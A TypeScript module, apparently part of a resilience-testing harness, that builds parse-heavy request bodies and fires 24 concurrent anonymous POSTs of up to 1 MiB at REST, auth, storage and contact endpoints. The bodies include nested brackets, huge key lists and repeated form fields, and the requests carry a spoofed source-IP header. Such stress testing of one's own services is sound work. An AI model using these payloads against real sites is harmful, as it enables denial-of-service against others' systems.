import { createAttack, from, type Target } from './attack.ts';

interface Body {
  path: string;
  type: string;
  create(size: number): string;
}

const json = 'application/json';
const form = 'application/x-www-form-urlencoded';
const repeat = (text: string, size: number) => text.repeat(size / text.length);
/** Joins numbered entries of ten characters each. */
const numbered = (size: number, create: (number: string) => string) =>
  Array.from({ length: size / 10 }, (_, index) => create(index.toString(36).padStart(4, '0'))).join('');

/** Bodies that take long to parse for their size. */
const bodies: Body[] = [
  { path: '/rest/v1/posts', type: 'text/csv', create: (size) => repeat('a\n', size) },
  { path: '/rest/v1/posts', type: 'text/csv', create: (size) => repeat(',', size) },
  { path: '/rest/v1/posts', type: json, create: (size) => `[${repeat('{},', size - 10)}{}]` },
  { path: '/rest/v1/posts', type: json, create: (size) => repeat('[', size) },
  {
    path: '/rest/v1/posts',
    type: json,
    create: (size) => `{${numbered(size - 20, (n) => `"${n}":1, `)}"a":1}`,
  },
  { path: '/rest/v1/posts', type: form, create: (size) => numbered(size, (n) => `${n}=1234&`) },
  { path: '/rest/v1/rpc/none', type: form, create: (size) => repeat('a=&', size) },
  { path: '/auth/v1/token?grant_type=password', type: json, create: (size) => repeat('[', size) },
  {
    path: '/auth/v1/token?grant_type=password',
    type: json,
    create: (size) => `[${repeat('{},', size - 10)}{}]`,
  },
  { path: '/storage/v1/object/list/images', type: json, create: (size) => `[${repeat('{},', size - 10)}{}]` },
  { path: '/contact', type: form, create: (size) => repeat('a=b&', size) },
];

const send = (site: Target, { path, type, create }: Body, size: number, signal: AbortSignal) =>
  fetch(site.url + path, {
    method: 'POST',
    headers: { apikey: site.anonKey, 'content-type': type, origin: site.url, ...from('203.0.113.7') },
    body: create(size),
    signal,
  });

const sizes = { '1 MiB': 1024 * 1024, '60 kB': 60_000, '30 kB': 30_000 };

/** Anonymous writes, none of which is allowed. For all services, the first size is too large, for most the second, too. */
export const writes = Object.entries(sizes).map(([title, size]) =>
  createAttack(`24 anonymous bodies of ${title} at a time`, 24, (site, attempt, signal) =>
    send(site, bodies[attempt % bodies.length] as Body, size, signal),
  ),
);
